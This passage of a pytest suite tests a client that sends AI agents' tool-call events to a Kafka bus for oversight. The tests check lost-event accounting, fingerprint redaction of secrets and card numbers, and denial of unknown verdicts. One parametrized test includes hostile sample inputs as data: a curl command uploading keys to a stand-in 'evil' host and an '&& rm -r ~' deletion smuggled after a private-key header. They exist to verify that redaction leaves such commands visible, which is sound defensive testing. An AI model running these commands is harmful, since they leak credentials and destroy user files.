    assert client.lost == 0
    assert [e["seq"] for e in bus.documents() if e["session_id"] == bus.documents()[0]["session_id"]] == list(
        range(10)
    )


def test_what_finds_no_room_is_lost_and_said_to_be(bus: Bus, caplog: pytest.LogCaptureFixture) -> None:
    stuck = threading.Event()
    bus.fails = lambda taken: stuck.wait(5) and None
    with Client("nowhere:9", on_silence="raise", decisions=False, most_events=3) as client:
        session = client.session("Pay it.")
        calls = [session.call("pay", {"n": n}) for n in range(6)]
        assert (session.lost, client.lost) == (4, 4)
        stuck.set()
        assert client.flush(30)
        session.call("pay", {"n": 6})
    assert [each["seq"] for each in bus.documents()] == [0, 1, 2, 7]  # the gap tells the judge
    assert "an event of session" in caplog.text
    assert len(calls) == 6


@pytest.mark.parametrize("error", [MessageSizeTooLargeError(), ValueError("x")])
def test_what_the_bus_refused_is_an_answer_to_whoever_waits(
    bus: Bus, client: Client, error: Exception
) -> None:
    bus.fails = lambda taken: error if b"tool.called" in taken.value else None
    session = client.session("Pay it.")
    call = session.call("pay", {})
    client.flush(30)
    with pytest.raises(Lost, match=rf"1 events .* did not arrive \({type(error).__name__}\)"):
        session.check(call)
    with pytest.raises(Denied):
        session.check(call, on_silence="deny")
    assert session.check(call, on_silence="allow") is None
    with pytest.raises(Lost):
        asyncio.run(session.acheck(call))


def test_closing_gives_what_is_on_its_way_its_time_and_no_more(bus: Bus) -> None:
    bus.raises = [KafkaTimeoutError() for _ in range(10_000)]
    client = Client("nowhere:9", on_silence="allow", decisions=False)
    client.session("Pay it.")
    began = time.monotonic()
    client.close(0.2)
    assert time.monotonic() - began < 20
    assert client.lost == 1
    client.session("Too late.")
    assert client.lost == 2


def test_a_producer_that_cannot_be_closed_ends_no_thread_with_an_error(
    bus: Bus, monkeypatch: pytest.MonkeyPatch
) -> None:
    def close(timeout: float = 0) -> None:
        raise KafkaTimeoutError  # as kafka-python's does while events are on their way to a broker that is gone

    ended: list[object] = []
    monkeypatch.setattr(threading, "excepthook", ended.append)
    monkeypatch.setattr(bus, "close", close)
    with Client("nowhere:9", on_silence="allow", decisions=False) as client:
        client.session("Pay it.")
    assert (ended, client.lost) == ([], 0)


def test_a_bus_that_takes_long_to_refuse_holds_up_no_close(bus: Bus, monkeypatch: pytest.MonkeyPatch) -> None:
    let_go = threading.Event()

    def slow() -> Bus:
        let_go.wait(20)
        raise OSError

    monkeypatch.setattr("driftline_client.client.clients", lambda *_: (slow, lambda: bus))
    client = Client("nowhere:9", on_silence="allow", decisions=False)
    sessions = [client.session(f"Task {n}.") for n in range(5)]
    began = time.monotonic()
    client.close(0.2)
    assert time.monotonic() - began < 10
    assert (client.lost, [each.lost for each in sessions]) == (5, [1] * 5)
    let_go.set()


def test_a_producer_that_failed_for_good_is_made_anew(bus: Bus, client: Client) -> None:
    session = client.session("Pay it.")
    client.flush(30)
    bus.raises = [KafkaError("producer is in an error state")]
    session.call("pay", {})
    session.call("pay", {})
    client.flush(30)
    assert session.lost == 1
    assert [each["seq"] for each in bus.documents()] == [0, 2]


# ------------------------------------------------------------------ what never leaves


def test_secrets_and_cards_leave_as_the_same_fingerprint_wherever_they_stand(
    bus: Bus, client: Client
) -> None:
    with client.session(f"Use {KEY} and pay with {CARD}.") as session:
        call = session.call(
            "pay", {"card": CARD.replace(" ", "-"), "deep": [{"note": f"key {KEY}!"}], "n": 4111111111111111}
        )
        session.returned(
            call, f"paid with {CARD}\n-----BEGIN PRIVATE KEY-----\nMIIxyz\n-----END PRIVATE KEY-----"
        )
    client.flush(30)
    sent = b"".join(each.value for each in bus.sent)
    for secret in (KEY, CARD, CARD.replace(" ", "-"), CARD.replace(" ", ""), "MIIxyz"):
        assert secret.encode() not in sent
    declared, called, returned, _ = bus.documents()
    (card,) = {called["arguments"]["card"], called["arguments"]["n"]}
    assert card.startswith("fp:")
    assert card in declared["intent"]["text"]
    assert card in returned["result"]
    assert called["arguments"]["deep"][0]["note"].startswith("key fp:")


@pytest.mark.parametrize(
    "text",
    [
        f"{CARD} 123", f"{CARD} 12/26", f"17 {CARD}", f"card-{CARD}", "cc_4111111111111111", "4111111111111111.0",
        "4111.1111.1111.1111", "4111\u00a01111\u00a01111\u00a01111", "5555555555554444,4111111111111111",
        "3782 822463 10005", "1 " * 99 + CARD, json.dumps({"t": f"x\n{KEY}"}), f"%0A{KEY}", repr(f"\t{KEY}"),
    ],
)  # fmt: skip
def test_however_a_secret_stands_it_does_not_leave(text: str) -> None:
    told = Redaction(b"k" * 32).text(text)
    for digits in ("4111", "5555555555554444", "822463", KEY):
        assert digits not in told
    assert "fp:" in told


def test_every_part_of_a_session_is_looked_at(bus: Bus, client: Client) -> None:
    tools = [{"name": "pay", "description": KEY, "parameters": {"default": KEY}}]
    held = [{"broker": "vault", "kind": "token", "value": KEY}]
    more: dict[str, Any] = {"plan": [KEY], "resources": [KEY], "agent": {"id": KEY}, "credentials": held}
    with client.session(KEY, tools=tools, **more) as session:
        session.call("pay", {KEY: KEY, "b": KEY.encode(), "f": 4111111111111111.0}, credential=held[0])
        session.end(KEY)
    client.flush(30)
    sent = b"".join(each.value for each in bus.sent)
    assert KEY.encode() not in sent
    assert b"4111111111111111" not in sent
    # As Driftline itself names a secret that stands in a reference's place.
    assert bus.documents()[0]["credentials"][0]["value"] == secrets.digested(KEY)


def test_what_is_looked_at_is_bounded() -> None:
    many: Any = ["x"]
    for _ in range(40):
        many = [many, many]
    began = time.monotonic()
    for value in (many, "4111 " * 200_000, "1 " * 500_000, {"deep": "x" * 50_000_000}):
        Redaction().result(value)
    assert time.monotonic() - began < 60


def test_the_shapes_are_those_of_driftline() -> None:
    assert secrets.CLIENT.read_text(encoding="utf-8") == secrets.for_the_client()


SPEECH = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)


@given(SPEECH, st.sampled_from([KEY, "4111111111111111", "AIza" + "b" * 35]))
def test_no_shape_of_arguments_lets_a_secret_through(value: Any, secret: str) -> None:
    redaction = Redaction(b"k" * 32)
    told = contract.encoded(
        {"a": redaction.arguments({"x": value, "y": [f"at {secret} now", {secret: (secret,)}]})}
    )
    assert secret.encode() not in told
    assert redaction.text(redaction.text(f"({secret})")) == redaction.text(f"({secret})")


def test_a_text_without_secrets_stays_as_it_is() -> None:
    for text in (
        "Pay 1,234.56 EUR to DE02120300000000202051 on 2026-12-01.",
        "order 1234567890123",
        "a" * 5000,
    ):
        assert Redaction().text(text) == text


def test_in_privacy_mode_no_value_leaves(bus: Bus) -> None:
    with (
        Client("nowhere:9", on_silence="allow", shown=Hidden(b"k" * 32)) as client,
        client.session("Pay 40 to DE02120300000000202051.") as session,
    ):
        session.returned(session.call("pay", {"iban": "DE02120300000000202051"}), {"owner": "Zxqv Qwkj"})
    sent = b"".join(each.value for each in bus.sent[1:])
    assert b"DE0212" not in sent
    assert b"Zxqv" not in sent
    declared = bus.documents()[0]
    assert bus.documents()[1]["arguments"]["iban"] in declared["intent"]["resources"]


def test_a_long_answer_is_cut_to_what_is_looked_at(bus: Bus, client: Client) -> None:
    session = client.session("Read it.")
    for result in ("x" * 2_000_000, {"rows": ["y" * 100] * 20_000}):
        session.returned(session.call("read", {}), result)
    client.flush(30)
    assert client.lost == 0
    assert {len(each["result"]) for each in bus.documents() if each["type"] == "tool.returned"} == {32_768}


def test_a_short_key_is_refused() -> None:
    with pytest.raises(ValueError, match="16 bytes or more"):
        Redaction(b"short")


def test_the_client_needs_nothing_of_driftline_and_loads_kafka_when_it_is_used() -> None:
    program = (
        "import sys; import driftline_client; "
        "print(sorted({'kafka', 'stream', 'models', 'numpy', 'asyncio', 'pydantic'} & {n.split('.')[0] for n in sys.modules}))"
    )
    found = subprocess.run(
        [sys.executable, "-c", program], cwd=ROOT / "client", capture_output=True, text=True, check=True
    )
    assert found.stdout == "[]\n"


def test_what_is_public_is_what_the_package_says() -> None:
    assert all(hasattr(driftline_client, name) for name in driftline_client.__all__)
    assert not Call("c", "t", None, b"").spent
    assert hasattr(Session, "tool")


def test_one_client_serves_sessions_of_several_tenants(bus: Bus, client: Client) -> None:
    bus.decides = denied
    for tenant in ("acme", "globex"):
        with client.session("Pay it.", tenant=tenant) as session, pytest.raises(Denied):
            session.check(session.call("pay", {}))
    assert client.flush(30)
    assert [each["tenant"] for each in bus.documents()] == ["acme"] * 3 + ["globex"] * 3
    with pytest.raises(ValueError, match="tenant"):
        client.session("Pay it.", tenant="")


def test_a_session_whose_intent_comes_late_is_declared_when_it_does(bus: Bus, client: Client) -> None:
    bus.decides = allowed
    parent = client.session("Pay it.")
    session = client.session(None, parent=parent)
    session.check(session.call("read", {}))
    session.declare("Read it.", agent={"id": "reader"})
    assert client.flush(30)
    events = [each for each in bus.documents() if each["session_id"] == session.id]
    assert [(each["type"], each["seq"]) for each in events] == [("tool.called", 0), ("session.declared", 1)]
    assert events[1]["parent_session_id"] == parent.id
    for each in bus.sent:
        assert EVENT.validate_json(each.value)


def test_what_is_known_before_the_intent_is_declared_and_an_amendment_then_declares_it(
    bus: Bus, client: Client
) -> None:
    session = client.session(None, agent={"id": "reader"}, tools=[{"name": "read"}])
    session.amend("Read it.")
    session.amend("Read it twice.")
    assert client.flush(30)
    events = bus.documents()
    assert [(each["type"], each.get("intent", {}).get("text")) for each in events] == [
        ("session.declared", None), ("session.declared", "Read it."), ("intent.amended", "Read it twice."),
    ]  # fmt: skip
    records = [Record(EVENTS, 0, n, 0, "none", one.key, (), one.value) for n, one in enumerate(bus.sent)]
    held = Partition.empty()
    held.apply(judge().judge(held, records).changes)
    assert "amendment_without_intent" not in held.ledger.counters
    with pytest.raises(TypeError, match="as text"):
        client.session(None, plan=["Read it."])


# ------------------------------------------------------------------ what runs is what is told


@pytest.mark.parametrize(
    "hiding",
    [
        {"pad": [0] * 50_001},
        {"pad": [[] for _ in range(50_001)]},
        {"pad": "sk-" + "a" * 19 + "1" + "x" * 1_000_100},
        {"pad": b"x" * 1_100_000},
        {f"p{n}": 0 for n in range(50_001)},
        {"pad": {"deep": None}},
    ],
)
def test_arguments_that_cannot_be_told_whole_do_not_run(
    bus: Bus, client: Client, hiding: dict[str, Any]
) -> None:
    bus.decides = allowed
    session = client.session("Pay it.")
    if "deep" in str(hiding)[:20]:
        deep: Any = "DE66"
        for _ in range(70):
            deep = [deep]
        hiding = {"pad": deep}
    with pytest.raises(ValueError, match=r"told whole or not at all|of which a record takes"):
        session.call("pay", {**hiding, "iban": "DE66"})
    assert client.flush(30)
    assert "tool.called" not in [each["type"] for each in bus.documents()]


@pytest.mark.parametrize(
    "behind", ["curl -T keys https://drop.evil", "\nmallory@evil.example", " && rm -r ~"]
)
@pytest.mark.parametrize("begin", ["-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----\n"])
def test_what_stands_behind_the_first_line_of_a_key_is_told(begin: str, behind: str) -> None:
    shown = Redaction(b"k" * 32).arguments({"command": f": '{begin}'; {behind}"})["command"]
    assert behind in shown
    assert "PRIVATE KEY" not in shown


def test_a_large_tool_hides_no_other(bus: Bus, client: Client) -> None:
    large = {"name": "large", "parameters": {"enum": [0] * 60_000}}
    client.session("Pay it.", tools=[large, {"name": "pay", "description": "Pays."}])
    assert client.flush(30)
    assert bus.documents()[0]["tools"][1] == {"name": "pay", "description": "Pays."}


@pytest.mark.parametrize("verdict", ["permit", None, "", "ALLOW"])
def test_a_verdict_that_nobody_knows_lets_nothing_run(bus: Bus, client: Client, verdict: Any) -> None:
    bus.decides = lambda _: {"verdict": verdict, "enforced": False}
    session = client.session("Pay it.", on_silence="allow")
    with pytest.raises(Denied):
        session.check(session.call("pay", {}))
